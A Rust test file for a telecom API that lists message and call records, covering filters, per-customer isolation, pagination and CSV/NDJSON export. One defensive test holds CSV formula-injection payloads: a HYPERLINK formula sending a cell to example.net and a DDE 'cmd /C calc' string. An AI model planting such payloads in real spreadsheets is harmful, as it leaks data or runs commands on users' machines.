//! Records of calls and messages: what filters take, whose they are, pages, files.

use std::iter::repeat_n;
use std::mem::take;
use std::time::Duration;

use bytes::Bytes;
use runtime::clock::Timestamp;
use runtime::log::{
    CallDirection, CallIdentity, Cdr, Direction, EndedBy, MessageRow, Progress, Reason, State, Uncertain,
};
use runtime::model::{MessageId, Money};
use serde_json::{Value, json};
use uuid::{Builder, Uuid};

use crate::testing::{Answer, Lab, TOKEN};

mod carried;
mod media;

/// Two customers with twelve messages and twelve calls, the youngest a minute old and numbered 0, the oldest
/// from before the window of lists. Those with a number that three divides are the first customer's.
struct Fixture {
    lab: Lab,
    own: Uuid,
    other: Uuid,
    own_key: String,
    other_key: String,
    now: Timestamp,
}

const COUNT: u64 = 12;

impl Fixture {
    async fn new() -> Self {
        let lab = Lab::new().await;
        let log = lab.smpp.log.clone();
        tokio::spawn(async move { log.run(|_| {}).await });
        let own = lab.customer("OWN-1", "ACTIVE").await.1.parse().unwrap();
        let other = lab.customer("OTHER-2", "ACTIVE").await.1.parse().unwrap();
        let permissions = ["calls:read", "messages:read"];
        let own_key = lab.key(Some("OWN-1"), &permissions).await;
        let other_key = lab.key(Some("OTHER-2"), &permissions).await;
        let now = Timestamp::from_micros(lab.api.clock.now().micros() / 1000 * 1000);
        let fixture = Self { lab, own, other, own_key, other_key, now };
        fixture.write((0..COUNT).map(|n| fixture.message(n)).collect()).await;
        for n in 0..COUNT {
            fixture.lab.smpp.log.put_cdr(fixture.call(n), []).durable().await;
        }
        fixture
    }

    async fn write(&self, rows: Vec<MessageRow>) {
        let add = |batch: &mut runtime::log::Batch| rows.into_iter().for_each(|row| batch.accept(row));
        self.lab.smpp.log.append_new(add).unwrap().durable().await;
    }

    fn ago(&self, minutes: u64) -> Timestamp {
        self.now.minus(Duration::from_secs(60 * minutes))
    }

    fn begun(&self, n: u64) -> Timestamp {
        self.ago(if n == COUNT - 1 { 8 * 24 * 60 } else { n + 1 })
    }

    fn customer(&self, n: u64) -> Uuid {
        if n.is_multiple_of(3) { self.own } else { self.other }
    }

    fn message(&self, n: u64) -> MessageRow {
        let accepted = self.begun(n);
        let state = match n {
            2 | 3 => State::Delivered,
            6 => State::Rejected,
            _ => State::Enroute,
        };
        MessageRow {
            id: MessageId::first_at(accepted).0,
            direction: if n == 6 { Direction::Mo } else { Direction::Mt },
            customer: self.customer(n),
            account: Uuid::from_u128(if n == 9 { 9 } else { 2 }),
            parent: None,
            part: 0,
            answered_as: None,
            segments: 2,
            source: if n == 9 { "+15557770001".into() } else { "WARP".into() },
            destination: if n.is_multiple_of(2) { "+15550001111".into() } else { "447700900000".into() },
            alphabet: 0,
            registered_delivery: 1,
            priority: 1,
            accepted_at: accepted.micros(),
            expires_at: accepted.micros() + 1,
            hold: 0,
            progress: Progress {
                state,
                vendor: Some(Uuid::from_u128(if n == 9 { 5 } else { 3 })),
                route: Some(Uuid::from_u128(4)),
                uncertain: Uncertain::Hold,
                attempts: 1,
                submitted_at: Some(accepted.micros() + 1000),
                done_at: None,
                deadline: None,
                vendor_message_id: Some("of-the-vendor".into()),
                dlr_hash: None,
                command_status: Some(0),
                error: Some("000".into()),
            },
            frame: Bytes::from_static(b"the text of a message"),
        }
    }

    fn call(&self, n: u64) -> Cdr {
        let began = self.begun(n);
        let ms = u64::try_from(began.micros() / 1000).unwrap();
        let answered = n.is_multiple_of(2);
        Cdr {
            id: Builder::from_unix_timestamp_millis(ms, &[7; 10]).into_uuid(),
            node: 7,
            customer: self.customer(n),
            trunk: Uuid::from_u128(if n == 9 { 9 } else { 2 }),
            vendor: answered.then_some(Uuid::from_u128(3)),
            direction: if n == 6 { CallDirection::Inbound } else { CallDirection::Outbound },
            source: "203.0.113.1:5060".parse().unwrap(),
            call_id: "a@203.0.113.1".into(),
            caller: if n.is_multiple_of(5) { "+15551230001".into() } else { "441632960000".into() },
            callee: "15557650001".into(),
            callee_sent: "9001#15557650001".into(),
            started_at: began,
            ringing_at: None,
            answered_at: answered.then_some(began),
            ended_at: began.plus(Duration::from_secs(2)),
            pdd_us: None,
            duration_ms: 2000,
            billed_seconds: 2,
            status: if answered { 200 } else { 503 },
            reason: if answered { Reason::Answered } else { Reason::VendorFailed },
            ended_by: EndedBy::Callee,
            prefix: "1555".into(),
            rate: Money::from_nanos(4_200_000),
            retransmissions: Some(3),
            q850_cause: Some(16),
            recovered: false,
            attempts: 1,
            media: answered.then(media::counted),
            identity: CallIdentity::default(),
        }
    }

    async fn get(&self, token: &str, path: &str) -> Answer {
        self.lab.ask(token, ("GET", path), None).await
    }

    /// The numbers of the records in an answer; [`COUNT`] for one that is none of ours.
    fn numbers(&self, answer: &Answer) -> Vec<u64> {
        let number = |item: &Value| {
            let id = item["id"].as_str().unwrap();
            let is = |n: &u64| {
                id == MessageId(self.message(*n).id).to_string() || id == self.call(*n).id.to_string()
            };
            (0..COUNT).find(is).unwrap_or(COUNT)
        };
        answer.json()["items"].as_array().unwrap().iter().map(number).collect()
    }

    /// What a question finds.
    async fn expect(&self, token: &str, path: &str, expected: &[u64]) {
        let answer = self.get(token, path).await;
        assert_eq!(answer.status, 200, "{path}: {}", answer.body);
        assert_eq!(self.numbers(&answer), expected, "{path}");
    }
}

/// The lines of CSV (RFC 4180).
fn lines(text: &str) -> Vec<Vec<String>> {
    let (mut lines, mut line, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut rest = text.chars().peekable();
    while let Some(character) = rest.next() {
        match character {
            '"' if quoted && rest.peek() == Some(&'"') => cell.extend(rest.next()),
            '"' => quoted = !quoted,
            ',' if !quoted => line.push(take(&mut cell)),
            '\r' if !quoted && rest.peek() == Some(&'\n') => {
                rest.next();
                line.push(take(&mut cell));
                lines.push(take(&mut line));
            }
            other => cell.push(other),
        }
    }
    assert!(cell.is_empty() && line.is_empty(), "the last line has no end");
    lines
}

#[tokio::test]
async fn messages_are_found_by_what_they_are() {
    let fixture = Fixture::new().await;
    let (own, other) = (fixture.own, fixture.other);
    let young: Vec<u64> = (0..COUNT - 1).collect();
    let all: Vec<u64> = (0..COUNT).collect();
    fixture.expect(TOKEN, "/v1/mdrs", &young).await;
    fixture.expect(TOKEN, &format!("/v1/mdrs?since={}", fixture.ago(9 * 24 * 60)), &all).await;
    fixture.expect(TOKEN, &format!("/v1/mdrs?until={}", fixture.ago(3 * 24 * 60)), &[11]).await;
    fixture.expect(TOKEN, "/v1/mdrs?until=2200-01-01T00:00:00Z&since=2100-01-01T00:00:00Z", &[]).await;
    fixture.expect(TOKEN, &format!("/v1/mdrs?customer_id={own}"), &[0, 3, 6, 9]).await;
    fixture.expect(TOKEN, &format!("/v1/mdrs?customer_id={other}&state=delivered"), &[2]).await;
    let (since, until) = (fixture.ago(7), fixture.ago(3));
    let offset = since.to_string().replace('Z', "%2B00:00");
    let cases: [(String, &[u64]); 15] = [
        (String::new(), &[0, 3, 6, 9]),
        (format!("customer_id={own}"), &[0, 3, 6, 9]),
        ("state=delivered".to_owned(), &[3]),
        ("state=queued".to_owned(), &[]),
        ("final=true".to_owned(), &[3, 6]),
        ("final=false".to_owned(), &[0, 3, 6, 9]),
        ("direction=mo".to_owned(), &[6]),
        ("direction=mt&final".to_owned(), &[3]),
        ("destination=1555".to_owned(), &[0, 6]),
        ("destination=%2B1555".to_owned(), &[0, 6]),
        ("destination=+44".to_owned(), &[3, 9]),
        (format!("account={}", Uuid::from_u128(9)), &[9]),
        (format!("since={offset}"), &[0, 3, 6]),
        (format!("until={until}"), &[3, 6, 9]),
        (format!("since={since}&until={until}"), &[3, 6]),
    ];
    for (query, expected) in cases {
        fixture.expect(&fixture.own_key, &format!("/v1/mdrs?{query}"), expected).await;
    }
}

#[tokio::test]
async fn calls_are_found_by_what_they_are() {
    let fixture = Fixture::new().await;
    let (own, other) = (fixture.own, fixture.other);
    let all: Vec<u64> = (0..COUNT).collect();
    fixture.expect(TOKEN, "/v1/cdrs", &all).await;
    fixture.expect(TOKEN, &format!("/v1/cdrs?vendor={}", Uuid::from_u128(3)), &[0, 2, 4, 6, 8, 10]).await;
    fixture.expect(TOKEN, &format!("/v1/cdrs?customer_id={other}&caller=1555"), &[5, 10]).await;
    let (since, until) = (fixture.ago(7), fixture.ago(3));
    let cases: [(String, &[u64]); 10] = [
        (String::new(), &[0, 3, 6, 9]),
        (format!("customer_id={own}"), &[0, 3, 6, 9]),
        (format!("trunk={}", Uuid::from_u128(9)), &[9]),
        ("status_class=5".to_owned(), &[3, 9]),
        ("status_class=4".to_owned(), &[]),
        ("caller=%2B1555".to_owned(), &[0]),
        ("caller=44&callee=1555765".to_owned(), &[3, 6, 9]),
        (format!("since={since}"), &[0, 3, 6]),
        (format!("until={until}"), &[3, 6, 9]),
        (format!("since={since}&until={until}&status_class=2"), &[6]),
    ];
    for (query, expected) in cases {
        fixture.expect(&fixture.own_key, &format!("/v1/cdrs?{query}"), expected).await;
    }
}

#[tokio::test]
async fn a_customer_is_told_nothing_of_another_or_of_who_carried_it() {
    let fixture = Fixture::new().await;
    let (own, other) = (fixture.own.to_string(), fixture.other.to_string());
    let theirs: Vec<u64> = (0..COUNT - 1).filter(|n| !n.is_multiple_of(3)).collect();
    fixture.expect(&fixture.other_key, "/v1/mdrs", &theirs).await;
    let (vendor, route) = (Uuid::from_u128(3).to_string(), Uuid::from_u128(4).to_string());
    let secrets = [
        other.as_str(),
        "\"routing\"",
        "vendor_id",
        "of-the-vendor",
        "callee_sent",
        "media_node",
        "9001#",
        "0.0042",
        "the text of",
        vendor.as_str(),
        route.as_str(),
    ];
    for list in ["mdrs", "cdrs"] {
        for format in ["json", "csv", "ndjson"] {
            let shown = fixture.get(&fixture.own_key, &format!("/v1/{list}?format={format}")).await;
            assert!(shown.status == 200 && shown.body.contains(&own), "{}", shown.body);
            for secret in secrets {
                assert!(!shown.body.contains(secret), "{list} as {format} tells {secret}: {}", shown.body);
            }
        }
        let hidden = fixture.get(&fixture.own_key, &format!("/v1/{list}?customer_id={other}")).await;
        assert_eq!((hidden.status, &hidden.json()["code"]), (404, &json!("unknown_customer")));
    }
    let refused = fixture.get(&fixture.own_key, &format!("/v1/cdrs?vendor={vendor}")).await;
    assert_eq!((refused.status, &refused.json()["code"]), (403, &json!("forbidden")));
    let calls = fixture.get(&fixture.own_key, "/v1/cdrs").await.json();
    assert_eq!(calls["items"][0]["source"], "203.0.113.1:5060", "its own");
    assert_eq!(calls["items"][2]["source"], Value::Null, "of a call to it that is the vendor's gateway");
}

#[tokio::test]
async fn records_are_shown_with_what_belongs_to_them() {
    let fixture = Fixture::new().await;
    let messages = fixture.get(TOKEN, "/v1/mdrs?direction=mo").await.json();
    let at = fixture.begun(6);
    let routing = json!({"vendor_id": Uuid::from_u128(3), "vendor": null, "route_id": Uuid::from_u128(4),
        "vendor_message_id": "of-the-vendor", "attempts": 1});
    let shown = json!({"id": MessageId::first_at(at).to_string(), "answered_as": null,
        "customer_id": fixture.own, "account_id": Uuid::from_u128(2), "direction": "mo", "from": "WARP",
        "to": "+15550001111", "state": "rejected", "segments": 2, "priority": 1, "accepted_at": at,
        "submitted_at": at.plus(Duration::from_millis(1)), "done_at": null, "command_status": 0,
        "error": "000", "routing": routing});
    assert_eq!(messages, json!({"items": [shown], "next": null}));

    let trunk = Uuid::from_u128(9);
    let calls = fixture.get(TOKEN, &format!("/v1/cdrs?trunk={trunk}")).await.json();
    let at = fixture.begun(9);
    let routing = json!({"node": 7, "vendor_id": null, "vendor": null, "callee_sent": "9001#15557650001",
        "prefix": "1555", "rate": "0.0042", "retransmissions": 3, "recovered": false, "media_node": null});
    let shown = json!({"id": fixture.call(9).id, "customer_id": fixture.own, "trunk_id": trunk,
        "trunk": trunk.to_string(), "direction": "outbound", "source": "203.0.113.1:5060",
        "call_id": "a@203.0.113.1", "caller": "441632960000", "callee": "15557650001", "started_at": at,
        "ringing_at": null, "answered_at": null, "ended_at": at.plus(Duration::from_secs(2)),
        "pdd_us": null, "duration_ms": 2000, "billed_seconds": 2, "status": 503,
        "reason": "vendor_failed", "ended_by": "callee", "q850_cause": 16, "verstat": null,
        "attestation_received": null, "attestation_signed": null, "media": null, "routing": routing});
    assert_eq!(calls, json!({"items": [shown], "next": null}));
}

#[tokio::test]
async fn pages_go_on_where_the_last_one_ended_whatever_comes_meanwhile() {
    let fixture = Fixture::new().await;
    let key = &fixture.own_key;
    let mut written = 0;
    for (list, size) in [("mdrs", 1), ("mdrs", 3), ("cdrs", 1), ("cdrs", 3), ("cdrs", 4)] {
        let younger = if list == "mdrs" { written } else { 0 };
        let (mut found, mut cursor) = (Vec::new(), String::new());
        loop {
            let page = fixture.get(key, &format!("/v1/{list}?limit={size}{cursor}")).await;
            assert_eq!(page.status, 200, "{}", page.body);
            found.extend(fixture.numbers(&page));
            // What is younger than the first page is on none behind it.
            let id = MessageId::first_at(fixture.now).0 + i64::try_from(written).unwrap();
            fixture.write(vec![MessageRow { id, customer: fixture.own, ..fixture.message(1) }]).await;
            written += 1;
            let Some(next) = page.json()["next"].as_str().map(str::to_owned) else { break };
            cursor = format!("&cursor={next}");
        }
        let expected: Vec<u64> = repeat_n(COUNT, younger).chain([0, 3, 6, 9]).collect();
        assert_eq!(found, expected, "{list} by {size}");
    }
}

/// Pages of a list, put together.
async fn paged(fixture: &Fixture, path: &str) -> Vec<Value> {
    let (mut items, mut cursor) = (Vec::new(), String::new());
    loop {
        let page = fixture.get(TOKEN, &format!("{path}?limit=200{cursor}")).await.json();
        items.extend(page["items"].as_array().unwrap().iter().cloned());
        let Some(next) = page["next"].as_str() else { return items };
        cursor = format!("&cursor={next}");
    }
}

#[tokio::test]
async fn a_file_has_what_the_pages_have() {
    let fixture = Fixture::new().await;
    let first = MessageId::first_at(fixture.ago(60)).0;
    let rows = (0..2345).map(|n| MessageRow { id: first + n, ..fixture.message(3) });
    fixture.write(rows.collect()).await;
    for (list, count) in [("mdrs", 2356), ("cdrs", 12)] {
        let path = format!("/v1/{list}");
        let items = paged(&fixture, &path).await;
        assert_eq!(items.len(), count);
        let ndjson = fixture.get(TOKEN, &format!("{path}?format=ndjson")).await;
        assert_eq!(ndjson.header("content-type"), "application/x-ndjson");
        let parsed: Vec<Value> =
            ndjson.body.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert_eq!(parsed, items, "{list}");

        let csv = fixture.get(TOKEN, &format!("{path}?format=csv")).await;
        assert_eq!(csv.header("content-type"), "text/csv; charset=utf-8");
        assert_eq!(csv.header("content-disposition"), format!("attachment; filename=\"{list}.csv\""));
        let mut lines = lines(&csv.body).into_iter();
        let titles = lines.next().unwrap();
        assert!(titles.starts_with(&["id".to_owned()]) && titles.contains(&"vendor_id".to_owned()));
        let lines: Vec<Vec<String>> = lines.collect();
        assert_eq!(lines.len(), items.len());
        for (line, item) in lines.iter().zip(&items) {
            assert_eq!(line.len(), titles.len());
            for (title, cell) in titles.iter().zip(line) {
                let cell = cell.strip_prefix('\'').unwrap_or(cell);
                assert_eq!(cell, media::shown(item, title), "{title} of {item}");
            }
        }

        let third = items[2]["id"].as_str().unwrap();
        let rest = fixture.get(TOKEN, &format!("{path}?format=ndjson&limit=2&cursor={third}")).await.body;
        let rest: Vec<Value> = rest.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert_eq!(rest, items[3..5], "{list} from a cursor on");
    }
}

#[tokio::test]
async fn no_cell_of_a_file_is_a_formula() {
    let fixture = Fixture::new().await;
    let hostile = [
        ("=HYPERLINK(\"http://example.net/?\"&A1,\"open\")", "+15550001111"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "-1"),
        ("a,b\r\n=1", "say \"no\""),
    ];
    for (n, (source, destination)) in hostile.into_iter().enumerate() {
        let id = MessageId::first_at(fixture.now).0 + i64::try_from(n).unwrap();
        let (source, destination) = (source.into(), destination.into());
        fixture.write(vec![MessageRow { id, source, destination, ..fixture.message(0) }]).await;
    }
    let csv = fixture.get(&fixture.own_key, "/v1/mdrs?format=csv&limit=3").await.body;
    for written in [
        ",\"'=HYPERLINK(\"\"http://example.net/?\"\"&A1,\"\"open\"\")\",\"'+15550001111\",",
        ",\"'@SUM(1+1)*cmd|' /C calc'!A0\",\"'-1\",",
        ",\"a,b\r\n=1\",\"say \"\"no\"\"\",",
    ] {
        assert!(csv.contains(written), "{written} is not in {csv}");
    }
    let lines = lines(&csv);
    assert_eq!(lines.len(), 4);
    let begins = |cell: &String| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    assert!(!lines.iter().flatten().any(begins), "{csv}");
}

#[tokio::test]
async fn who_works_for_several_customers_names_one() {
    let fixture = Fixture::new().await;
    let lab = &fixture.lab;
    let (_, third) = lab.customer("THIRD-3", "ACTIVE").await;
    let (user, session) = lab.user("maria@example.net", "user").await;
    let (admin, of_admin) = lab.user("admin@example.net", "admin").await;
    let token = |user, session| lab.api.tokens.issue(user, session, lab.api.clock.now()).unwrap().0;
    let (maria, admin_token) = (token(user, session), token(admin, of_admin));
    assert_eq!(fixture.get(&maria, "/v1/mdrs").await.status, 403, "she works for nobody");
    for (who, customer) in [(user, fixture.own), (user, fixture.other), (admin, fixture.own)] {
        let path = format!("/v1/users/{who}/customers/{customer}");
        assert_eq!(lab.ask(TOKEN, ("PUT", &path), Some(json!({}))).await.status, 200);
    }
    for list in ["mdrs", "cdrs"] {
        let asked = fixture.get(&maria, &format!("/v1/{list}")).await;
        assert_eq!((asked.status, &asked.json()["code"]), (400, &json!("bad_request")));
        assert!(asked.body.contains("customer_id is needed"), "{}", asked.body);
        let named = format!("/v1/{list}?customer_id={}", fixture.own);
        fixture.expect(&maria, &named, &[0, 3, 6, 9]).await;
        let strange = fixture.get(&maria, &format!("/v1/{list}?customer_id={third}")).await;
        assert_eq!((strange.status, &strange.json()["code"]), (404, &json!("unknown_customer")));
        // One of the platform's people who works for one customer sees no other's, and who carried them.
        fixture.expect(&admin_token, &format!("/v1/{list}"), &[0, 3, 6, 9]).await;
        let shown = fixture.get(&admin_token, &format!("/v1/{list}")).await.json();
        assert!(shown["items"][0]["routing"].is_object(), "{shown}");
    }
}

#[tokio::test]
async fn a_suspended_customer_reads_its_records() {
    let fixture = Fixture::new().await;
    let (_, gone) = fixture.lab.customer("GONE-3", "SUSPENDED").await;
    let key = fixture.lab.key(Some("GONE-3"), &["calls:read", "messages:read"]).await;
    let customer: Uuid = gone.parse().unwrap();
    let (message, call) = (fixture.message(0), fixture.call(0));
    let earlier = MessageId::first_at(fixture.ago(100)).0;
    fixture.write(vec![MessageRow { id: earlier, customer, ..message }]).await;
    let call = Cdr { id: Uuid::from_u128(1), customer, ..call };
    fixture.lab.smpp.log.put_cdr(call, []).durable().await;
    for list in ["mdrs", "cdrs"] {
        for format in ["json", "csv", "ndjson"] {
            let shown = fixture.get(&key, &format!("/v1/{list}?format={format}")).await;
            assert_eq!(shown.status, 200, "{}", shown.body);
            assert!(shown.body.contains(&gone), "{list} {format}: {}", shown.body);
        }
    }
}

#[tokio::test]
async fn questions_that_cannot_be_answered_are_refused_with_a_reason() {
    let lab = Lab::new().await;
    for (query, status, reason) in [
        ("mdrs?since=yesterday", 400, "since is a time of RFC 3339"),
        ("mdrs?until=2026-01-02", 400, "until is a time of RFC 3339"),
        ("mdrs?state=lost", 400, "state is scheduled or queued"),
        ("mdrs?direction=up", 400, "direction is mt or mo"),
        ("mdrs?final=perhaps", 400, "final is true or false"),
        ("mdrs?account=7", 400, "account is an id"),
        ("mdrs?customer_id=ACME", 400, "customer_id is an id"),
        ("mdrs?format=xml", 400, "format is json or csv or ndjson"),
        ("mdrs?limit=201", 400, "limit is a number from 1 to 200"),
        ("mdrs?trunk=7", 400, "unknown query parameter"),
        ("mdrs?cursor=nonsense", 422, "cursor is no"),
        ("mdrs?customer_id=00000000-0000-7000-8000-000000000000", 404, "no such customer"),
        ("cdrs?since=1", 400, "since is a time of RFC 3339"),
        ("cdrs?status_class=7", 400, "status_class is 2 or 3"),
        ("cdrs?trunk=east", 400, "trunk is an id"),
        ("cdrs?vendor=atlantic", 400, "vendor is an id"),
        ("cdrs?cursor=nonsense", 400, "cursor is an id"),
        ("cdrs?format=csv&limit=0", 400, "limit is a number from 1 to 200"),
    ] {
        let refused = lab.ask(TOKEN, ("GET", &format!("/v1/{query}")), None).await;
        assert_eq!(refused.status, status, "{query}: {}", refused.body);
        assert_eq!(refused.header("content-type"), "application/problem+json");
        let detail = refused.json()["detail"].as_str().unwrap().to_owned();
        assert!(detail.contains(reason), "{query}: {detail}");
    }
}
